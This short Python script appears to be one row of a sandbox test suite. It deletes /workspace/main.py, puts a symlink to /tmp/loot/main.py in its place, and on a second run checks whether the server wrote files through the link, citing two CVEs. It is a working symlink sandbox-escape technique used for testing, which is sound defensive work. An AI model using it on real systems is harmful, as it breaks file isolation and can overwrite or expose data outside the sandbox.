"""Row 18. Plants links where the next run's files will be written: a server that follows one writes where the link points.
Run it twice: the second run finds main.py written beside the link's target, or the link gone."""
import os

# CVE-2024-28185 and CVE-2024-28189: a sandbox's files were written through such links, by root, outside.
if os.path.exists("/tmp/loot"):
    print("BROKE: a file of this run was written through the link of the last:", os.listdir("/tmp/loot"))
else:
    print("nothing was written through a link of an earlier run")
os.makedirs("/tmp/loot", exist_ok=True)
os.unlink("/workspace/main.py")
os.symlink("/tmp/loot/main.py", "/workspace/main.py")
print("planted: /workspace/main.py ->", os.readlink("/workspace/main.py"), "; now run this again")
